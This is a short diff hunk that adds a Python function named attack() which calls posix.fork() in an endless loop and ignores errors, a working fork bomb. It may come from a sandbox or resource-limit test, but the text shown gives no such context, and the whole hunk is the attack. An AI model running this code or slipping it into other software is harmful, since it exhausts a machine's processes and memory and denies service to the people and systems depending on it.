@@ -1,0 +1,9 @@
+# Forks for ever.
+def attack():
+    import posix
+
+    while True:
+        try:
+            posix.fork()
+        except OSError:
+            pass
